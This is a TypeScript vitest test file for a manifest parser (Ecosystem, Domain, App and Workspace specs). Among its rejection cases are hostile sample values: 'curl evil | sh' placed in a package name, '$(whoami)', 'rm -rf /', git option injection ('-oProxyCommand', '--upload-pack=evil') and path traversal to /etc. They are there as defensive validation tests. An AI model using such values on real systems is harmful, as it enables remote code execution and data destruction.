import { parse as parseYaml } from 'yaml';
import { describe, expect, it } from 'vitest';

import { parseManifest } from './resource';
import { invalidErrors } from './test-helpers';

const envelope = (kind: string, metadata: Record<string, unknown>) => (spec: unknown) => ({
  apiVersion: 'devopsmaestro.io/v1',
  kind,
  metadata,
  spec,
});
const ecosystem = envelope('Ecosystem', { name: 'eco' });
const domain = envelope('Domain', { name: 'dom', ecosystem: 'eco' });
const app = envelope('App', { name: 'api', domain: 'dom' });
const workspace = envelope('Workspace', { name: 'dev', app: 'api' });

/** The spec as parsed, or the paths of the errors. */
function specOrErrorPaths(manifest: unknown): unknown {
  try {
    return parseManifest(manifest).resource.spec;
  } catch {
    return invalidErrors(() => parseManifest(manifest)).map((error) => error.path);
  }
}

describe('Ecosystem and Domain specs', () => {
  it('accept the child lists the original printed, and inherited settings', () => {
    const spec = {
      domains: ['a', 'b'],
      theme: 'tokyonight-night',
      build: { args: { HTTP_PROXY: 'http://p:3128' } },
      env: { TZ: 'UTC' },
    };
    expect(parseManifest(ecosystem(spec)).resource.spec).toStrictEqual(spec);
    expect(parseManifest(domain({ apps: [], env: { A: 'b' } })).resource.spec).toStrictEqual({
      apps: [],
      env: { A: 'b' },
    });
  });

  it('reject fields of other kinds', () => {
    expect(specOrErrorPaths(ecosystem({ apps: [] }))).toEqual(['spec.apps']);
    expect(specOrErrorPaths(domain({ domains: [], build: { target: 'x' } }))).toEqual([
      'spec.build.target',
      'spec.domains',
    ]);
  });
});

describe('App spec', () => {
  it('needs a source: a path and/or a git URL', () => {
    expect(invalidErrors(() => parseManifest(app({})))).toEqual([
      { path: 'spec.path', message: 'required: an App needs spec.path and/or spec.git.url' },
    ]);
    expect(specOrErrorPaths(app({ git: { url: 'https://github.com/acme/api.git' } }))).toEqual({
      git: { url: 'https://github.com/acme/api.git' },
    });
  });

  it('reports the missing source together with other errors', () => {
    expect(specOrErrorPaths(app({ ports: ['x'], lang: 'go' }))).toEqual([
      'spec.ports[0]',
      'spec.lang',
      'spec.path',
    ]);
  });

  it.each([
    [{ path: 'relative/dir' }, ['spec.path']],
    [{ path: '/srv/../etc' }, ['spec.path']],
    [{ path: '${HOME}/apps/api' }, { path: '${HOME}/apps/api' }],
    [{ path: '${HOME}/../../etc' }, ['spec.path']],
    [{ path: 'x${HOME}' }, ['spec.path']],
    [{ git: { url: '-oProxyCommand=${CMD}' } }, ['spec.git.url']],
    [{ path: '/srv/api', host: 'Build_Host' }, ['spec.host']],
    [{ git: { url: 'not a url' } }, ['spec.git.url']],
    [{ git: { url: 'git@github.com:acme/api.git', ref: '--upload-pack=evil' } }, ['spec.git.ref']],
    [
      { git: { url: 'ssh://git@host/repo', ref: 'feature/x' } },
      { git: { url: 'ssh://git@host/repo', ref: 'feature/x' } },
    ],
    [{ git: { ref: 'main' } }, ['spec.git.url']],
    [{ path: '/a', build: { dockerfile: '/etc/passwd' } }, ['spec.build.dockerfile']],
    [{ path: '/a', build: { context: '../..' } }, ['spec.build.context']],
    [
      { path: '/a', ports: [8080, '8080:80', '127.0.0.1:5432:5432', '53:53/udp'] },
      { path: '/a', ports: [8080, '8080:80', '127.0.0.1:5432:5432', '53:53/udp'] },
    ],
    [
      { path: '/a', ports: [0, 70000, '80:70000', 'http', 8080.5] },
      ['spec.ports[0]', 'spec.ports[1]', 'spec.ports[2]', 'spec.ports[3]', 'spec.ports[4]'],
    ],
    [
      { path: '/a', services: [{ name: 'Postgres', port: 'x' }] },
      ['spec.services[0].name', 'spec.services[0].port'],
    ],
    [{ path: '/a', services: [{ version: '15' }] }, ['spec.services[0].name']],
    [
      { path: '/a', env: { 'BAD NAME': 'x', '1ST': 'y' } },
      ['spec.env["BAD NAME"]', 'spec.env["1ST"]'],
    ],
    [{ path: '/a', language: { version: '1.22' } }, ['spec.language.name']],
    [{ path: '/a', workspaces: ['main', 'Debug'] }, ['spec.workspaces[1]']],
    [{ path: '/a', dependencies: { extra: ['ok', 'rm -rf /'] } }, ['spec.dependencies.extra[1]']],
  ])('%j → %j', (spec, expected) => {
    expect(specOrErrorPaths(app(spec))).toEqual(expected);
  });
});

describe('Workspace spec', () => {
  it.each([
    [{ image: { name: 'Dvm-Main:latest' } }, ['spec.image.name']],
    [{ image: { name: '${REGISTRY}/dev:latest' } }, { image: { name: '${REGISTRY}/dev:latest' } }],
    [
      { image: { name: 'ghcr.io/acme/dev@sha256:' + 'a'.repeat(64) } },
      { image: { name: 'ghcr.io/acme/dev@sha256:' + 'a'.repeat(64) } },
    ],
    [{ image: { packages: ['git', 'vim; curl evil | sh'] } }, ['spec.image.packages[1]']],
    [
      { build: { devStage: { devTools: ['gopls', '$(whoami)'] } } },
      ['spec.build.devStage.devTools[1]'],
    ],
    [{ build: { devStage: { packags: [] } } }, ['spec.build.devStage.packags']],
    [{ shell: { type: 'zhs' } }, ['spec.shell.type']],
    [{ shell: { type: '' } }, { shell: { type: '' } }],
    [{ terminal: { type: 'tmux', autostart: 'yes' } }, ['spec.terminal.autostart']],
    [{ nvim: { structure: 'vanilla' } }, ['spec.nvim.structure']],
    [
      { nvim: { structure: 'none', plugins: [42, { lazy: true }, { name: 'x', colour: 1 }] } },
      ['spec.nvim.plugins[0]', 'spec.nvim.plugins[1].name', 'spec.nvim.plugins[2].colour'],
    ],
    [{ nvim: { plugins: [{ repo: 'not-a-repo' }] } }, ['spec.nvim.plugins[0].repo']],
    [
      { languages: [{ name: 'go', version: '1.22' }, { version: '3' }] },
      ['spec.languages[1].name'],
    ],
    [
      { mounts: [{ destination: '/workspace', source: '${APP_PATH}' }] },
      { mounts: [{ destination: '/workspace', source: '${APP_PATH}' }] },
    ],
    [
      { mounts: [{ type: 'bind', source: 'relative', destination: '/x' }] },
      ['spec.mounts[0].source'],
    ],
    [{ mounts: [{ source: '${HOME}/../root', destination: '/x' }] }, ['spec.mounts[0].source']],
    [{ mounts: [{ source: '~/../root', destination: '/x' }] }, ['spec.mounts[0].source']],
    [
      { mounts: [{ type: 'volume', source: '/abs', destination: '/x' }] },
      ['spec.mounts[0].source'],
    ],
    [{ mounts: [{ type: 'tmpfs', destination: 'x' }] }, ['spec.mounts[0].destination']],
    [{ mounts: [{ type: 'nfs', source: '/a', destination: '/x' }] }, ['spec.mounts[0].type']],
    [{ sshKey: { path: '~/.ssh' } }, ['spec.sshKey.mode']],
    [{ sshKey: { mode: 'copy' } }, ['spec.sshKey.mode']],
    [{ container: { uid: -1, gid: 2 ** 31 } }, ['spec.container.uid', 'spec.container.gid']],
    [{ container: { uid: 1000.5, gid: '1000' } }, ['spec.container.uid', 'spec.container.gid']],
    [{ container: { workingDir: 'workspace' } }, ['spec.container.workingDir']],
    [{ container: { user: 'dev user' } }, ['spec.container.user']],
    [{ container: { command: '/bin/zsh' } }, ['spec.container.command']],
  ])('%j → %j', (spec, expected) => {
    expect(specOrErrorPaths(workspace(spec))).toEqual(expected);
  });

  it.each([['2G'], ['512m'], ['1.5g'], ['4Gi'], ['1024'], [2048], ['256MB']])(
    'accepts memory %j',
    (memory) => {
      expect(specOrErrorPaths(workspace({ container: { resources: { memory } } }))).toEqual({
        container: { resources: { memory: String(memory) } },
      });
    },
  );

  it.each([['lots'], ['2 G'], ['-1G'], ['0'], ['2X'], ['']])('rejects memory %j', (memory) => {
    expect(
      invalidErrors(() => parseManifest(workspace({ container: { resources: { memory } } }))),
    ).toEqual([
      {
        path: 'spec.container.resources.memory',
        message: 'must be a memory size more than 0, such as 512m, 2G or 4Gi',
      },
    ]);
  });

  it('keeps cpus as written, string or number, and rejects nonsense', () => {
    for (const cpus of ['2.0', 2, 0.5, '1']) {
      expect(
        parseManifest(workspace({ container: { resources: { cpus } } })).resource.spec,
      ).toEqual({ container: { resources: { cpus } } });
    }
    for (const cpus of [0, -1, 'two', '', true]) {
      expect(specOrErrorPaths(workspace({ container: { resources: { cpus } } }))).toEqual([
        'spec.container.resources.cpus',
      ]);
    }
  });

  it('rejects an unknown field even when YAML gives it no value', () => {
    const manifest = parseYaml(
      'apiVersion: devopsmaestro.io/v1\nkind: Workspace\nmetadata: {name: a, app: b}\nspec:\n  container:\n    uidd:\n',
    );
    expect(invalidErrors(() => parseManifest(manifest))).toEqual([
      { path: 'spec.container.uidd', message: 'unknown field' },
    ]);
  });

  it('refuses __proto__ keys instead of losing them', () => {
    const manifest = JSON.parse(
      '{"apiVersion":"devopsmaestro.io/v1","kind":"Workspace","metadata":{"name":"a","app":"b","annotations":{"__proto__":"x"}},"spec":{}}',
    ) as unknown;
    expect(invalidErrors(() => parseManifest(manifest))).toEqual([
      { path: 'metadata.annotations.__proto__', message: 'is a reserved key and cannot be used' },
    ]);
  });

  it('words type errors for people editing YAML', () => {
    expect(
      invalidErrors(() => parseManifest(workspace({ env: ['A=b'], mounts: { type: 'bind' } }))),
    ).toEqual([
      { path: 'spec.mounts', message: 'must be a list, not an object' },
      { path: 'spec.env', message: 'must be an object (mapping), not a list' },
    ]);
    expect(invalidErrors(() => parseManifest(workspace('zsh')))).toEqual([
      { path: 'spec', message: 'must be an object (mapping), not a string' },
    ]);
  });
});
